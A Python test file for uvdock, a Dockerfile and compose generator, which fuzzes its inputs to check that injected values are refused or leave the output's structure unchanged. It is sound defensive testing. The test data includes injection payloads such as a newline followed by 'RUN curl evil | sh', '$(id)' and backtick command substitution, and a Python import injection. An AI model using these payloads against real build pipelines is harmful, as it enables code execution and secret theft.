"""Hostile values cannot add an instruction, a command, a key or a pattern to a generated file.

For every value that reaches the generated files (from flags, ``UVDOCK_*``,
``[tool.uvdock]`` or the project's files), arbitrary strings either are refused
with one :class:`UvdockError`, or give files with exactly the structure a clean
value gives: the same Dockerfile instructions (each with the same number of
shell commands, words, exec-form arguments and key/value pairs), the same YAML
shape, the same ``.dockerignore`` patterns. The Dockerfile is read with our
BuildKit-faithful parser, the YAML with PyYAML; ``docker compose config`` reads
a few of these files in tests/integration/test_hostile_compose.py.
"""

from __future__ import annotations

import ast
import dataclasses
import re
from collections.abc import Callable
from pathlib import Path, PurePosixPath
from typing import Any, TypeVar

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from tests.support.paths import PROJECTS_DIR as FIXTURES
from uvdock.api import plan_project
from uvdock.config import OPTIONS, Settings, load_settings
from uvdock.dockerfile import key_values, parse_dockerfile
from uvdock.errors import UsageError, UvdockError
from uvdock.lint.shell import commands
from uvdock.plan.model import BuildPlan, Healthcheck
from uvdock.plan.planner import make_plan
from uvdock.project.model import Sourced
from uvdock.render.files import render_files

# What an attacker reaches for: line breaks of every kind, shell and Dockerfile
# metacharacters, YAML indicators, wildcards, quotes, NUL, non-ASCII.
_NASTY = list("ab1\n\r\t\x00\x0b\x0c\x85\u2028 ;&|$`'\"\\(){}[]<>*?!#:,=@/.-_~%^+é")
HOSTILE = st.text(alphabet=st.sampled_from(_NASTY), max_size=16) | st.text(max_size=8)
FUZZ = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

T = TypeVar("T")
Mutation = Callable[[BuildPlan, str], BuildPlan]


def _project(**changes: Any) -> Mutation:
    def mutate(plan: BuildPlan, value: str) -> BuildPlan:
        fields = {k: (f(value) if callable(f) else f) for k, f in changes.items()}
        return dataclasses.replace(plan, project=dataclasses.replace(plan.project, **fields))

    return mutate


def _entry(**changes: Callable[[str], Any]) -> Mutation:
    def mutate(plan: BuildPlan, value: str) -> BuildPlan:
        assert plan.entrypoint is not None
        entry = dataclasses.replace(
            plan.entrypoint.value, **{k: f(value) for k, f in changes.items()}
        )
        return dataclasses.replace(plan, entrypoint=Sourced(entry, plan.entrypoint.source))

    return mutate


def _plan(name: str, wrap: Callable[[str], Any]) -> Mutation:
    def mutate(plan: BuildPlan, value: str) -> BuildPlan:
        return dataclasses.replace(plan, **{name: wrap(value)})

    return mutate


def _sourced(value: str) -> Sourced[str]:
    return Sourced(value, "test")


def _packages(value: str) -> tuple[Sourced[str], ...]:
    return (Sourced("gcc", "test"), Sourced(value, "test"))


def _health(value: str) -> Healthcheck:
    return Healthcheck(path=value, port=8000, source="test")


# Fields of the plan that renderers write, each with a clean value of its kind.
PLAN_FIELDS: dict[str, tuple[Mutation, str]] = {
    "project name": (_project(name=lambda v: v), "app"),
    "version": (_project(version=lambda v: v), "1.0"),
    "description": (_project(description=lambda v: v), "an app"),
    "license": (_project(license=lambda v: v), "MIT"),
    "source url": (_project(source_url=lambda v: v), "https://example.com/app"),
    "build requires": (_project(build_requires=lambda v: ("hatchling", v)), "setuptools"),
    "referenced file": (_project(referenced_files=lambda v: ("README.md", v)), "LICENSE"),
    "source dir": (_project(source_dirs=lambda v: ("src", v)), "lib"),
    "base image": (_plan("base_image", _sourced), "python:3.13-slim"),
    "uv image": (_plan("uv_image", _sourced), "ghcr.io/astral-sh/uv:0.13.9"),
    "python image": (_plan("python_image", _sourced), "python:3.13-slim"),
    "build packages": (_plan("build_packages", _packages), "make"),
    "runtime packages": (_plan("runtime_packages", _packages), "libpq5"),
    "health path": (_plan("healthcheck", _health), "/health"),
    "command": (_entry(argv=lambda v: ("gunicorn", v), dev_argv=lambda v: ("flask", v)), "x"),
    "env value": (_entry(env=lambda v: (("APP_MODE", v),)), "production"),
    "env name": (_entry(env=lambda v: ((v, "1"),)), "APP_MODE"),
    "run-time file": (_entry(files=lambda v: (v,)), "gunicorn.conf.py"),
}


_OPTIONAL_LABELS = {"version", "description", "license", "source url"}


@pytest.fixture(scope="module")
def flask_plan() -> BuildPlan:
    return plan_project(FIXTURES / "flask-app", options={}, environ={})


@pytest.fixture(scope="module")
def workspace_plan() -> BuildPlan:
    return plan_project(FIXTURES / "uv-workspace", options={}, environ={})


@pytest.fixture(scope="module")
def requirements_plan() -> BuildPlan:
    return plan_project(FIXTURES / "requirements-only", options={}, environ={})


# -- structure of each generated file ---------------------------------------------------


def dockerfile_shape(text: str) -> list[tuple[Any, ...]]:
    parsed = parse_dockerfile(text)
    shape: list[tuple[Any, ...]] = [("comments", len(parsed.comments))]
    shape += [("diagnostic", d.message) for d in parsed.diagnostics]
    for instruction in parsed.instructions:
        flags = tuple(sorted(f.name for f in instruction.flags))
        if instruction.keyword == "RUN":
            detail: Any = tuple(len(c.argv) for c in commands(instruction.args))
        elif instruction.exec_form is not None:
            detail = len(instruction.exec_form)
        elif instruction.keyword in {"ENV", "LABEL"}:
            detail = len(key_values(instruction))
        else:
            detail = len(instruction.args.split())
        shape.append((instruction.keyword, flags, detail, len(instruction.heredocs)))
    return shape


def compose_shape(text: str) -> Any:
    data = yaml.safe_load(text)

    def shape(node: Any, key: str = "") -> Any:
        if key == "volumes" and isinstance(node, list):
            return ["volume"] * len(node)  # short or long syntax, one mount each
        if key == "services" and isinstance(node, dict):  # named after the project
            return [shape(v) for v in node.values()]
        if isinstance(node, dict):
            return {k: shape(v, str(k)) for k, v in node.items()}
        if isinstance(node, list):
            return [shape(v) for v in node]
        return type(node).__name__

    return shape(data)


def dockerignore_shape(text: str) -> list[str]:
    return [
        "comment" if line.startswith("#") else "keep" if line.startswith("!") else "drop"
        for line in text.splitlines()
    ]


def files_shape(plan: BuildPlan, regenerate: str = "uvdock init --force") -> dict[str, Any]:
    shapes: dict[str, Any] = {}
    for file in render_files(plan, regenerate=regenerate):
        if file.name == "compose.yaml":
            shapes[file.name] = compose_shape(file.content)
        elif file.name.endswith(".dockerignore"):
            shapes[file.name] = dockerignore_shape(file.content)
        else:
            shapes[file.name] = dockerfile_shape(file.content)
    return shapes


def outcome(call: Callable[[], T]) -> T | UvdockError:
    """What ``call`` returns, or the one error it raised (any other exception escapes)."""
    try:
        return call()
    except UvdockError as err:
        return err


def refused_in_one_line(result: object) -> bool:
    if isinstance(result, UvdockError):
        assert "\n" not in result.one_line()
        return True
    return False


def assert_refused_or_same_shape(render: Callable[[], dict[str, Any]], clean: object) -> None:
    shape = outcome(render)
    if not refused_in_one_line(shape):
        assert shape == clean


# -- the properties ---------------------------------------------------------------------


@pytest.mark.parametrize("field", sorted(PLAN_FIELDS))
@FUZZ
@given(value=HOSTILE)
def test_a_plan_value_never_changes_the_files_structure(
    field: str, value: str, flask_plan: BuildPlan
) -> None:
    mutate, clean_value = PLAN_FIELDS[field]
    if field in _OPTIONAL_LABELS:
        assume(value)  # an empty one is left out, by design
    clean = files_shape(mutate(flask_plan, clean_value))
    assert_refused_or_same_shape(lambda: files_shape(mutate(flask_plan, value)), clean)


@pytest.mark.parametrize(
    "field",
    ["package", "extras", "app path", "member path"],
)
@FUZZ
@given(value=HOSTILE)
def test_a_workspace_value_never_changes_the_files_structure(
    field: str, value: str, workspace_plan: BuildPlan
) -> None:
    if field == "package":
        assume(value)  # no package: the root project, by design
    if field in {"app path", "member path"}:
        assume(PurePosixPath(value or ".").as_posix() != ".")  # the root, by design

    def mutate(text: str) -> BuildPlan:
        project = workspace_plan.project
        if field == "package":
            project = dataclasses.replace(project, package=text)
        elif field == "extras":
            project = dataclasses.replace(project, extras=Sourced(("web", text), "test"))
        elif field == "app path":
            project = dataclasses.replace(project, app_path=PurePosixPath(text or "."))
        else:
            first, *rest = project.workspace_members
            moved = dataclasses.replace(first, path=Path(text or "."))
            project = dataclasses.replace(project, workspace_members=(moved, *rest))
        return dataclasses.replace(workspace_plan, project=project)

    clean = files_shape(mutate("pkg1"))
    assert_refused_or_same_shape(lambda: files_shape(mutate(value)), clean)


@FUZZ
@given(value=HOSTILE)
def test_a_requirements_file_name_never_changes_the_files_structure(
    value: str, requirements_plan: BuildPlan
) -> None:
    def mutate(name: str) -> BuildPlan:
        project = requirements_plan.project
        renamed = dataclasses.replace(project, requirements_file=project.root / name)
        return dataclasses.replace(requirements_plan, project=renamed)

    clean = files_shape(mutate("requirements-prod.txt"))
    assert_refused_or_same_shape(lambda: files_shape(mutate(value)), clean)


@FUZZ
@given(value=HOSTILE)
def test_the_regenerate_command_stays_on_its_comment_line(
    value: str, flask_plan: BuildPlan
) -> None:
    clean = files_shape(flask_plan, "uvdock init --force")
    assert_refused_or_same_shape(lambda: files_shape(flask_plan, f"uvdock init {value}"), clean)


_STRING_SETTINGS = sorted(
    s.name for s in OPTIONS if s.kind in {"str", "list", "command", "bool-or-str"} and not s.choices
)


@pytest.mark.parametrize("name", _STRING_SETTINGS)
@FUZZ
@given(value=HOSTILE)
def test_a_setting_is_refused_with_one_line_or_planned_into_clean_files(
    name: str, value: str, flask_plan: BuildPlan
) -> None:
    """Through the settings' own entry checks (flags, UVDOCK_*, [tool.uvdock] share them)."""
    spec = next(s for s in OPTIONS if s.name == name)
    given_value: Any = (value,) if spec.kind == "list" else value
    resolved = outcome(lambda: load_settings(cli={name: given_value}, environ={}))
    if refused_in_one_line(resolved) or name in {"package", "extras", "groups"}:
        return  # those three are checked against the project's members, extras and groups
    assert isinstance(resolved, Settings)
    plan = outcome(lambda: make_plan(flask_plan.project, resolved))
    if refused_in_one_line(plan):
        return
    assert isinstance(plan, BuildPlan)
    if plan.errors:
        return
    clean = files_shape(flask_plan)
    shape = outcome(lambda: files_shape(plan))
    if refused_in_one_line(shape):
        return
    assert isinstance(shape, dict)
    # The files may differ only where the setting adds what it means to add (a
    # package to install, a secret, a health path): never a new instruction kind.
    assert [s[0] for s in shape["Dockerfile"]] == [s[0] for s in clean["Dockerfile"]] or (
        name in {"build_packages", "system_packages", "ca_bundle", "healthcheck", "command"}
    )
    for instruction in shape["Dockerfile"]:
        assert instruction[0] != "diagnostic"


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("python", "abc", "not a valid Python version"),
        ("base_image", "python:3.13\nRUN curl evil | sh", "control character \\n"),
        ("uv_image", "ghcr.io/astral-sh/uv:0.13.9 AS x", "not a valid image reference"),
        ("uv_version", "0.13.9;id", "not a valid uv version"),
        ("image_prefix", "reg.example.com/m\nRUN x", "control character \\n"),
        ("build_packages", ("gcc;curl",), "not a valid Debian package name"),
        ("system_packages", ("$(id)",), "not a valid Debian package name"),
        ("healthcheck", "/x');import os;('", "not a valid URL path"),
        ("command", "gunicorn 'app:app", "check its quotes"),
        ("ca_bundle", "ca.pem\nRUN x", "control character \\n"),
        ("package", "a b", "not a valid package name"),
        ("extras", ("x`id`",), "not a valid extra name"),
    ],
)
def test_each_setting_is_checked_against_its_grammar(name: str, value: Any, message: str) -> None:
    with pytest.raises(UsageError, match=re.escape(message)):
        load_settings(cli={name: value}, environ={})
    spec = next(s for s in OPTIONS if s.name == name)
    text = ",".join(value) if isinstance(value, tuple) else value
    with pytest.raises(UsageError, match=re.escape(spec.env)):
        load_settings(cli={}, environ={spec.env: text})


def test_a_pyproject_setting_outside_its_grammar_names_its_line() -> None:
    text = '[tool.uvdock]\nbase-image = "python:3.13 AS x"\n'
    with pytest.raises(UvdockError, match=r"pyproject\.toml:2: \[tool\.uvdock\] base-image"):
        load_settings(
            cli={},
            environ={},
            table={"base-image": "python:3.13 AS x"},
            pyproject_path=Path("pyproject.toml"),
            pyproject_text=text,
        )


def test_the_health_probe_quotes_the_path_as_a_python_literal(flask_plan: BuildPlan) -> None:
    plan = dataclasses.replace(flask_plan, healthcheck=_health("/h');import os;('"))
    dockerfile = render_files(plan, regenerate="uvdock init")[0].content
    probe = next(i for i in parse_dockerfile(dockerfile).instructions if i.keyword == "HEALTHCHECK")
    assert probe.exec_form is not None
    code = probe.exec_form[2]
    statements = ast.parse(code).body  # no injected statement: an import and one call
    assert [type(s).__name__ for s in statements] == ["Import", "Expr"]
    assert "urlopen(\"http://127.0.0.1:8000/h');import os;('\"" in code


def test_dollar_signs_stay_literal_in_labels_and_compose(flask_plan: BuildPlan) -> None:
    project = dataclasses.replace(flask_plan.project, description="costs $HOME")
    assert flask_plan.entrypoint is not None
    entry = dataclasses.replace(flask_plan.entrypoint.value, dev_argv=("echo", "$SECRET"))
    plan = dataclasses.replace(
        flask_plan, project=project, entrypoint=Sourced(entry, flask_plan.entrypoint.source)
    )
    files = {f.name: f.content for f in render_files(plan, regenerate="uvdock init")}
    assert 'description="costs \\$HOME"' in files["Dockerfile"]
    assert yaml.safe_load(files["compose.yaml"])["services"]["flask-app"]["command"] == [
        "echo",
        "$$SECRET",  # compose turns $$ into a literal $
    ]


def test_a_source_directory_with_a_colon_is_mounted_with_the_long_syntax(
    flask_plan: BuildPlan,
) -> None:
    plan = dataclasses.replace(
        flask_plan, project=dataclasses.replace(flask_plan.project, source_dirs=("a: b",))
    )
    compose = next(f for f in render_files(plan, regenerate="x") if f.name == "compose.yaml")
    volumes = yaml.safe_load(compose.content)["services"]["flask-app"]["volumes"]
    assert {"type": "bind", "source": "./a: b", "target": "/app/a: b"} in volumes


def test_a_readme_that_would_re_include_secrets_is_refused(flask_plan: BuildPlan) -> None:
    plan = dataclasses.replace(
        flask_plan,
        project=dataclasses.replace(flask_plan.project, referenced_files=("build/x\n!.env",)),
    )
    with pytest.raises(UvdockError, match=r"control character \\n"):
        render_files(plan, regenerate="x")


@pytest.mark.parametrize("base", ["oci:./layout:1", "docker-daemon:python:3.13-slim"])
def test_a_daemonless_only_base_is_a_setting_but_never_a_from_line(
    base: str, flask_plan: BuildPlan
) -> None:
    assert load_settings(cli={"base_image": base}, environ={}).get("base_image") == base
    plan = dataclasses.replace(flask_plan, base_image=Sourced(base, "--base-image"))
    with pytest.raises(UvdockError, match=r"only `uvdock build --engine oci` can start from"):
        render_files(plan, regenerate="x")
